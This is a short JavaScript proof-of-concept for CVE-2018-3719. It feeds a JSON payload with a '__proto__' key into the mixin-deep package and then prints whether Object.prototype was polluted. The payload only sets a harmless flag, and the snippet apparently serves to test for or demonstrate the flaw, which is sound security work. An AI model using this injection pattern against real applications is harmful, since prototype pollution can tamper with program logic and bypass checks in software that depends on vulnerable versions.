// CVE-2018-3719: mixin-deep copies "__proto__" onto Object.prototype.
const mixinDeep = require('mixin-deep');
mixinDeep({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
